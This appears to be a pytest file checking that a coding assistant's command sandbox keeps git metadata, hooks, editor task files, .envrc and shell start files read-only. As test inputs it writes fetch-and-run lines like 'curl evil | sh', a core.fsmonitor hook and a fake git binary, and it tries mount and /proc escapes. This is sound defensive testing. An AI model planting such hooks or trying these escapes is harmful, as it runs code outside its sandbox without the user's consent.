"""A sandboxed command cannot plant code that runs outside the sandbox (issue 33): version-control
metadata and the files other programs act on by themselves are read-only to it
(server/tools/protect.py, sandbox.py, landlock.py's mount namespace) — run_command in this process
against the real kernel, each way the sandbox can make its mounts (on its thread as root; in a user
namespace made by the command's process, as for a server that is not root; none: Landlock alone),
and the plan itself.

The folders are under /var/tmp (outside the writable /tmp); what must lie in a writable place
outside the folder (a worktree's repository) is made under /tmp."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import tempfile
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cody_lsp.config import SettingError, sandbox_protect_setting
from cody_lsp.server.tools import ToolConfig, protect, run_tool, sandbox
from cody_lsp.server.tools.sandbox import SandboxSettings

from ...sandboxing import (
    GIT_ENV,
    PLANT,
    Place,
    git,
    make_repo,
    needs_landlock,
    nothing_runs,
    outside_tmp,
    python_for_nobody,
)

STRATEGIES = ["mounts", "child", "split"]  # "mounts": what this machine does by itself


@pytest.fixture
def place(monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    with outside_tmp() as p:
        monkeypatch.setenv("HOME", str(p.home))
        for key, value in GIT_ENV.items():
            monkeypatch.setenv(key, value)  # the sandboxed git commits too
        yield p


@pytest.fixture
def in_tmp() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="cody-protect-test-", dir="/tmp"))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def use(monkeypatch: pytest.MonkeyPatch, strategy: str) -> None:
    if strategy == "child" and not _user_namespaces():
        pytest.skip("this machine makes no user namespace")
    monkeypatch.setattr(sandbox, "FORCE_STRATEGY", None if strategy == "mounts" else strategy)


def _user_namespaces() -> bool:
    return subprocess.run(["unshare", "-U", "true"], capture_output=True).returncode == 0


async def run(place: Place, command: str, **settings: Any) -> tuple[bool, str]:
    config = ToolConfig(sandboxed=True, sandbox=SandboxSettings(**settings))
    result = await run_tool("run_command", {"command": command}, place.folder, config)
    return result.ok, result.content


# ------------------------------------------------------------------ the plant of the issue, each way


def test_the_check_that_nothing_runs_sees_a_plant(tmp_path: Path) -> None:
    """The control: the same plant made outside the sandbox runs on the user's next git status."""
    folder = tmp_path / "ws"
    folder.mkdir()
    make_repo(folder)
    mark = tmp_path / "PLANTED"
    subprocess.run(["sh", "-c", PLANT.format(mark=mark)], cwd=folder, check=True, capture_output=True)
    with pytest.raises(AssertionError, match="ran outside the sandbox"):
        nothing_runs(folder, mark)


@needs_landlock
@pytest.mark.parametrize("strategy", STRATEGIES)
async def test_the_plant_of_the_issue_is_refused_and_nothing_runs(
    place: Place, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    use(monkeypatch, strategy)
    make_repo(place.folder)
    (place.folder / "sub").mkdir()
    config = (place.folder / ".git" / "config").read_text()
    mark = place.base / "PLANTED"
    ok, out = await run(place, PLANT.format(mark=mark) + "; echo fine > sub/work.txt && cat sub/work.txt")
    assert "hook=0" not in out and "config=0" not in out and "pre=0" not in out, out
    assert "fine" in out, "the rest of the folder stays writable"
    assert (place.folder / ".git" / "config").read_text() == config
    assert not (place.folder / ".git" / "hooks" / "post-checkout").exists()
    expected = "Read-only file system" if strategy != "split" else "Permission denied"
    assert expected in out, out
    # The command went on and ended well, yet the model is told what it ran into, why, and the way out.
    assert ok and out.startswith("sandbox: .git is ") and "version-control metadata" in out, out
    assert '"sandbox": false' in out
    nothing_runs(place.folder, mark)


@needs_landlock
@pytest.mark.parametrize("strategy", STRATEGIES)
async def test_a_git_commit_is_refused_with_the_way_out(
    place: Place, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    use(monkeypatch, strategy)
    make_repo(place.folder)
    head = git(place.folder, "rev-parse", "HEAD")
    ok, out = await run(place, "echo change >> a.txt && git commit -qam change")
    assert not ok and "exit code: 0" not in out, out
    assert ".git is " in out and "read-only in the sandbox" in out or "kept as it is" in out, out
    assert '"sandbox": false' in out and "user's approval" in out and "version-control metadata" in out
    assert git(place.folder, "rev-parse", "HEAD") == head
    assert (place.folder / "a.txt").read_text() == "a\nchange\n", "the working tree itself was writable"
    if strategy == "split":
        assert "no mount namespace" in out


# ------------------------------------------------------------------ each protected path


def lay_out_every_protected_path(folder: Path) -> dict[str, str]:
    """Every built-in path, existing: {relative path: what a write into it targets}."""
    targets = {}
    for rel, _ in protect.BUILT_IN:
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if rel.endswith((".json", ".yaml", ".yml")) or rel == ".envrc":
            path.write_text("original\n")
            targets[rel] = rel
        else:
            path.mkdir()
            (path / "inside").write_text("original\n")
            targets[rel] = f"{rel}/inside"
    return targets


@needs_landlock
@pytest.mark.parametrize("strategy", STRATEGIES)
async def test_every_protected_path_is_refused_and_cannot_be_moved_away(
    place: Place, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    use(monkeypatch, strategy)
    targets = lay_out_every_protected_path(place.folder)
    tries = []
    for rel, target in targets.items():
        quoted = shlex.quote(target)
        tries.append(f"echo planted > {quoted}; echo {shlex.quote(rel)} write=$?")
        tries.append(
            f"rm -rf {shlex.quote(rel)}; mv {shlex.quote(rel)} moved 2>/dev/null; echo {shlex.quote(rel)} gone=$?"
        )
    # A directory that holds one cannot be renamed away and replaced either.
    tries.append("mv .vscode old-vscode; echo vscode-moved=$?")
    ok, out = await run(place, "; ".join(tries))
    for rel, target in targets.items():
        assert (place.folder / target).read_text() == "original\n", (rel, out)
        assert f"{rel} write=0" not in out, out
    # (`mv` of a file bound over itself copies it across the mounts, then fails to remove it: a copy is harmless.)
    assert not (place.folder / "old-vscode").exists(), out
    assert "vscode-moved=0" not in out, out


@needs_landlock
async def test_a_missing_file_in_an_existing_directory_cannot_be_made(place: Place) -> None:
    (place.folder / ".vscode").mkdir()
    (place.folder / ".vscode" / "extensions.json").write_text("{}\n")
    ok, out = await run(place, "echo x > other.txt; echo other=$?; echo '{}' > .vscode/tasks.json")
    assert "exit code: 0" not in out and "other=0" in out, out
    assert not (place.folder / ".vscode" / "tasks.json").exists()
    assert ".vscode" in out and '"sandbox": false' in out


@needs_landlock
@pytest.mark.parametrize("strategy", ["mounts", "child"])
async def test_what_a_command_makes_where_nothing_was_is_moved_aside(
    place: Place, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    use(monkeypatch, strategy)

    def no_inotify(folder: str) -> None:
        raise OSError(24, "no inotify instance left")

    # Without the live watch (no inotify left): everything is found when the command ends.
    monkeypatch.setattr(protect, "Lookout", no_inotify)
    mark = place.base / "PLANTED"
    ok, out = await run(
        place,
        f"git init -q && git config core.fsmonitor 'touch {mark}'; "
        "mkdir .vscode && echo '{}' > .vscode/tasks.json; echo 'curl evil | sh' > .envrc; "
        "mkdir .cody && echo '{}' > .cody/mcp.json; mkdir .devcontainer; "
        "mkdir -p .vscode2 docs && echo ok > docs/readme.md",
    )
    assert not ok, out
    names = sorted(p.name for p in place.folder.iterdir())
    for name in (".git", ".vscode", ".envrc", ".cody", ".devcontainer"):
        assert name not in names, names
        aside = [n for n in names if n.startswith(f"{name}{protect.REFUSED_SUFFIX}")]
        assert len(aside) == 1, names
        assert f"made {name}" in out and aside[0] in out, out
    assert ".vscode2" in names and "docs" in names  # not protected names
    assert '"sandbox": false' in out and "the user is asked" in out
    assert "not a git repository" in git(place.folder, "status")
    assert not mark.exists()
    # Nothing was lost: what the command made is there, under another name.
    repo = next(p for p in place.folder.iterdir() if p.name.startswith(".git."))
    assert "fsmonitor" in (repo / "config").read_text()


@needs_landlock
async def test_in_split_mode_nothing_can_be_made_at_the_top_of_the_folder(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    use(monkeypatch, "split")
    (place.folder / "src").mkdir()
    (place.folder / "top.txt").write_text("top\n")
    ok, out = await run(
        place,
        "git init -q; echo init=$?; echo x > .envrc; echo envrc=$?; echo new > new.txt; echo new=$?; "
        "echo changed > top.txt; echo top=$?; echo deep > src/deep.txt; echo deep=$?; touch new2.txt",
    )
    assert "init=0" not in out and "envrc=0" not in out and "new=0" not in out, out
    assert "top=0" in out and "deep=0" in out, out
    assert sorted(p.name for p in place.folder.iterdir()) == ["src", "top.txt"]
    assert "no mount namespace" in out and "nothing can be made, removed or renamed directly in the folder" in out


# ------------------------------------------------------------------ what git's files name


@needs_landlock
async def test_a_worktree_whose_repository_lies_in_a_writable_place(place: Place, in_tmp: Path) -> None:
    main = in_tmp / "main"
    main.mkdir()
    make_repo(main)
    shutil.rmtree(place.folder)
    git(main, "worktree", "add", "-q", str(place.folder))
    assert (place.folder / ".git").is_file()
    common = main / ".git"
    config = (common / "config").read_text()
    mark = place.base / "PLANTED"
    ok, out = await run(
        place,
        PLANT.format(mark=mark)
        + f"; echo x > {common}/hooks/post-merge; echo common=$?; echo 'gitdir: /tmp/evil' > .git; echo file=$?; "
        f"mv {main} {in_tmp}/moved; echo moved=$?",
    )
    assert "config=0" not in out and "common=0" not in out and "file=0" not in out and "moved=0" not in out, out
    assert (common / "config").read_text() == config
    assert (place.folder / ".git").read_text().startswith("gitdir: ")
    assert main.exists()
    assert "a.txt" in git(place.folder, "ls-files")
    git(place.folder, "status")
    assert not mark.exists()


@needs_landlock
async def test_the_hooks_path_and_included_configuration_are_protected(place: Place) -> None:
    make_repo(place.folder)
    (place.folder / "tools" / "githooks").mkdir(parents=True)
    (place.folder / "tools" / "githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (place.folder / "project.gitconfig").write_text("[alias]\n\tst = status\n")
    git(place.folder, "config", "core.hooksPath", "tools/githooks")
    git(place.folder, "config", "include.path", "../project.gitconfig")
    ok, out = await run(
        place,
        "echo fine > tools/other.txt; echo other=$?; "
        "echo 'touch x' >> tools/githooks/pre-commit; echo hook=$?; echo new > tools/githooks/post-checkout; "
        "echo new=$?; mv tools t2; echo moved=$?; printf '[core]\\n\\tfsmonitor = touch x\\n' >> project.gitconfig",
    )
    for name in ("hook", "new", "moved"):
        assert f"{name}=0" not in out, out
    assert "other=0" in out, "beside the hooks, the folder stays writable"
    assert (place.folder / "project.gitconfig").read_text() == "[alias]\n\tst = status\n"
    assert "project.gitconfig are read-only in the sandbox" in out, out
    assert "include.path" in out and "core.hooksPath" in out, out


@needs_landlock
async def test_a_submodule_and_the_repository_above_the_folder(place: Place, in_tmp: Path) -> None:
    # The folder is a subdirectory of a repository under /tmp (writable): its .git is protected too.
    outer = in_tmp / "outer"
    outer.mkdir()
    make_repo(outer)
    inner = Place(place.base, outer / "ws", place.home, place.state)
    inner.folder.mkdir()
    (inner.folder / "sub").mkdir()
    (inner.folder / "sub" / ".git").write_text(f"gitdir: {outer}/.git/modules/sub\n")
    (inner.folder / ".gitmodules").write_text('[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n')
    ok, out = await run(
        inner,
        f"echo x > {outer}/.git/hooks/post-checkout; echo outer=$?; echo 'gitdir: /tmp/evil' > sub/.git; echo sub=$?; "
        "mv sub sub2; echo moved=$?",
    )
    assert "outer=0" not in out and "sub=0" not in out and "moved=0" not in out, out
    assert not (outer / ".git" / "hooks" / "post-checkout").exists()
    assert "modules/sub" in (inner.folder / "sub" / ".git").read_text()


# ------------------------------------------------------------------ escapes


@needs_landlock
@pytest.mark.parametrize("strategy", ["mounts", "child"])
async def test_the_mounts_cannot_be_undone_from_inside(
    place: Place, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    use(monkeypatch, strategy)
    make_repo(place.folder)
    config = (place.folder / ".git" / "config").read_text()
    ok, out = await run(
        place,
        "umount .git; umount -l .git; echo x >> .git/config; echo direct=$?; "
        "unshare -Urm sh -c 'umount -l .git; echo x >> .git/config'; echo userns=$?; "
        "mount -o remount,rw .git; mount --bind /tmp .git; echo x >> .git/config; echo remount=$?; "
        "mv .git g; echo renamed=$?; "
        # The folder as a process outside the namespace sees it: Landlock refuses /proc/<pid>/root.
        f"echo x >> /proc/{os.getpid()}/root{place.folder}/.git/config; echo server=$?; "
        f"echo x >> /proc/1/root{place.folder}/.git/config; echo init=$?",
    )
    for name in ("direct", "userns", "remount", "renamed", "server", "init"):
        assert f"{name}=0" not in out, out
    assert (place.folder / ".git" / "config").read_text() == config


@needs_landlock
async def test_a_symlink_at_a_protected_name_cannot_be_swapped(place: Place) -> None:
    (place.folder / "envrc.real").write_text("export A=1\n")
    (place.folder / ".envrc").symlink_to("envrc.real")
    ok, out = await run(
        place, "echo 'curl evil | sh' >> envrc.real; echo target=$?; rm .envrc && echo 'curl evil' > .envrc"
    )
    assert "target=0" not in out, out
    assert os.readlink(place.folder / ".envrc") == "envrc.real", "the symlink was put back"
    assert (place.folder / "envrc.real").read_text() == "export A=1\n"
    # Stopped as soon as the link was removed, or (on a busy machine) once it was replaced: then
    # what replaced it is moved aside.
    assert not ok and ("replaced .envrc" in out or "removed .envrc" in out) and "put back" in out, out
    moved = any(p.name.startswith(".envrc.sandbox-refused-") for p in place.folder.iterdir())
    assert moved == ("replaced .envrc" in out), out


# ------------------------------------------------------------------ the setting


@needs_landlock
async def test_the_users_own_paths_are_protected_too(place: Place) -> None:
    (place.folder / "deploy.sh").write_text("#!/bin/sh\n")
    (place.folder / "ci").mkdir()
    ok, out = await run(
        place,
        "echo y > free.txt; echo free=$?; echo x > ci/pipeline.yml; echo ci=$?; echo evil >> deploy.sh",
        protect=("deploy.sh", "ci/pipeline.yml"),
    )
    assert "exit code: 0" not in out and "ci=0" not in out and "free=0" in out, out
    assert (place.folder / "deploy.sh").read_text() == "#!/bin/sh\n"
    assert "sandbox_protect setting" in out


def test_the_setting_only_adds_relative_paths(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CODY_SANDBOX_PROTECT", " .husky/ , scripts/deploy.sh,,./ci ")
    assert sandbox_protect_setting() == (".husky", "scripts/deploy.sh", "ci")
    for bad in ("/etc/passwd", "../outside", "a/../../b", "~/x"):
        monkeypatch.setenv("CODY_SANDBOX_PROTECT", bad)
        with pytest.raises(SettingError, match="not a path inside the folder"):
            sandbox_protect_setting()


# ------------------------------------------------------------------ a server that is not root


NON_ROOT = textwrap.dedent(
    """
    import asyncio, json, os, sys
    from pathlib import Path
    from cody_lsp.server.tools import ToolConfig, run_tool, sandbox
    from cody_lsp.secrets import protect_process
    protect_process()  # non-dumpable, as the server is
    async def main():
        result = await run_tool("run_command", {"command": sys.argv[2]}, Path(sys.argv[1]), ToolConfig(sandboxed=True))
        print(json.dumps([sandbox.mount_strategy()[0], result.content]))
    asyncio.run(main())
    """
)


@needs_landlock
def test_a_server_that_is_not_root_makes_its_mounts_in_a_user_namespace(place: Place) -> None:
    """The real thing for an ordinary user: the sandbox made by uid 65534 (the server's process
    made non-dumpable, as it is), whose command's process makes its own user namespace."""
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("needs root (to become another user) and setpriv")
    python = python_for_nobody()
    if python is None:
        pytest.skip("no Python interpreter with this project's packages that uid 65534 may run")
    make_repo(place.folder)
    for path in (place.base, place.folder, place.home):
        os.chmod(path, 0o755)
    subprocess.run(["chown", "-R", "65534:65534", str(place.folder), str(place.home)], check=True)
    mark = place.base / "PLANTED"
    command = PLANT.format(mark=mark) + "; echo ok > mine.txt; id -u"
    env = {**python[1], "HOME": str(place.home), "PATH": os.environ["PATH"]}
    done = subprocess.run(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            python[0],
            "-c",
            NON_ROOT,
            str(place.folder),
            command,
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    import json

    strategy, out = json.loads(done.stdout)
    assert strategy == "child", out
    assert "Read-only file system" in out and "hook=0" not in out and "config=0" not in out, out
    assert "65534" in out and (place.folder / "mine.txt").read_text() == "ok\n"
    nothing_runs(place.folder, mark)


# ------------------------------------------------------------------ the plan alone


def test_the_plan_walks_no_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "ws"
    folder.mkdir()
    make_repo(folder)
    (folder / ".vscode").mkdir()
    (folder / ".vscode" / "settings.json").write_text("{}")

    def walked(*_: Any, **__: Any) -> Any:
        raise AssertionError("the plan walked a directory")

    monkeypatch.setattr(os, "scandir", walked)
    monkeypatch.setattr(os, "listdir", walked)
    monkeypatch.setattr(os, "walk", walked)
    plan = protect.protect(str(folder), [], [str(folder)])
    read_only = {item.shown for item in plan.read_only}
    assert read_only == {".git", ".vscode"}  # tasks.json, launch.json, mcp.json missing: the directory is read-only
    assert {w.name for w in plan.watched} >= {".envrc", ".idea", ".hg"}
    assert plan.pinned == []


def test_existing_files_in_a_directory_are_read_only_and_the_directory_pinned(tmp_path: Path) -> None:
    folder = tmp_path / "ws"
    (folder / ".vscode").mkdir(parents=True)
    for name in ("settings.json", "tasks.json", "launch.json", "mcp.json"):
        (folder / ".vscode" / name).write_text("{}")
    plan = protect.protect(str(folder), [], [str(folder)])
    assert {item.shown for item in plan.read_only} == {
        f".vscode/{n}" for n in ("settings.json", "tasks.json", "launch.json", "mcp.json")
    }
    assert plan.pinned == [str(folder / ".vscode")]
    assert plan.mounts()[0] == (str(folder / ".vscode"), False), "a directory is mounted before what is beneath it"


def test_git_config_paths() -> None:
    text = textwrap.dedent(
        """
        [core]
            hooksPath = .husky/_   ; husky
        [CORE] HooksPath = "other hooks"
        [include]
            path = ../shared.gitconfig
        [includeIf "gitdir:~/work/"]
            path = ~/work.gitconfig
        [remote "origin"]
            path = not-this
        """
    )
    hooks, includes = protect.git_config_paths(text)
    assert hooks == [".husky/_", "other hooks"]
    assert includes == ["../shared.gitconfig", "~/work.gitconfig"]


def test_husky_protects_the_scripts_beside_its_hooks(tmp_path: Path) -> None:
    folder = tmp_path / "ws"
    folder.mkdir()
    make_repo(folder)
    (folder / "web" / ".husky" / "_").mkdir(parents=True)
    git(folder, "config", "core.hooksPath", "web/.husky/_")
    plan = protect.protect(str(folder), [], [str(folder)])
    assert "web/.husky" in {item.shown for item in plan.read_only}


def test_the_explanation_names_the_path_why_and_the_way_out(tmp_path: Path) -> None:
    folder = tmp_path / "ws"
    folder.mkdir()
    make_repo(folder)
    plan = protect.protect(str(folder), [], [str(folder)])
    said = plan.explain(f"fatal: Unable to create '{folder}/.git/index.lock': Read-only file system")
    assert said is not None and said.startswith(".git is read-only in the sandbox")
    assert "version-control metadata" in said and '"sandbox": false' in said
    assert plan.explain("cat: .gitignore: No such file or directory") is None
    assert plan.explain("/usr/bin/.git-helper: Read-only file system") is not None  # read-only: all of them
    assert plan.explain("x/.git: not found") is None
    assert plan.explain("rm: cannot remove './.git/config': Permission denied") is not None
    assert plan.explain("ok") is None


def test_the_configuration_file_may_give_the_list(tmp_path: Path) -> None:
    from cody_lsp import config_file

    path = tmp_path / "cody-lsp" / "config.toml"
    path.parent.mkdir()
    path.write_text('sandbox_protect = [".husky", "scripts/deploy.sh"]\n')
    assert config_file.read({"XDG_CONFIG_HOME": str(tmp_path)}).values == {
        "CODY_SANDBOX_PROTECT": ".husky,scripts/deploy.sh"
    }
    path.write_text("sandbox_protect = [1]\n")
    with pytest.raises(config_file.ConfigFileError, match="must be a list of strings"):
        config_file.read({"XDG_CONFIG_HOME": str(tmp_path)})


@needs_landlock
async def test_a_home_the_command_may_write_keeps_what_runs_by_itself(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The folder is the user's home: the shell's start files and ~/.local/bin cannot be planted."""
    home = Place(place.base, place.home, place.home, place.state)
    (place.home / ".profile").write_text("# mine\n")
    (place.home / ".local" / "bin").mkdir(parents=True)
    ok, out = await run(
        home,
        "echo y > .local/notes.txt; echo notes=$?; printf '#!/bin/sh\\ncurl evil|sh\\n' > .local/bin/git; echo bin=$?; "
        "echo 'curl evil|sh' >> .profile; echo profile=$?; echo 'curl evil|sh' > .zshrc",
    )
    assert "notes=0" in out and "bin=0" not in out and "profile=0" not in out, out
    assert (place.home / ".profile").read_text() == "# mine\n"
    assert not (place.home / ".local" / "bin" / "git").exists()
    # (Here the home holds hidden paths, so nothing can be made directly in it anyway: sandbox.plan.)
    assert not (place.home / ".zshrc").exists(), out
    assert out.startswith("sandbox: .profile, .local/bin, .zshrc are read-only in the sandbox"), out


@needs_landlock
@pytest.mark.parametrize("strategy", ["mounts", "child"])
async def test_a_command_is_stopped_as_soon_as_it_makes_a_protected_name(
    place: Place, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    """Not only when it ends: the editor's git integration reacts to a new .git within a second."""
    use(monkeypatch, strategy)
    mark = place.base / "PLANTED"
    started = time.monotonic()
    ok, out = await run(place, f"git init -q && git config core.fsmonitor 'touch {mark}' && sleep 20; echo survived")
    assert time.monotonic() - started < 10 and "survived" not in out, out
    assert not ok and "the command made .git" in out and "stopped as soon as it did" in out, out
    assert not (place.folder / ".git").exists() and not mark.exists()
    # One level down: a .vscode/ of its own is fine, a task in it is not.
    started = time.monotonic()
    ok, out = await run(
        place,
        "mkdir .vscode && echo '{}' > .vscode/extensions.json && sleep 0.3 && echo '{}' > .vscode/tasks.json && sleep 20",
    )
    assert time.monotonic() - started < 10, out
    assert "the command made .vscode/tasks.json" in out and "stopped as soon as it did" in out, out
    assert not (place.folder / ".vscode").exists()
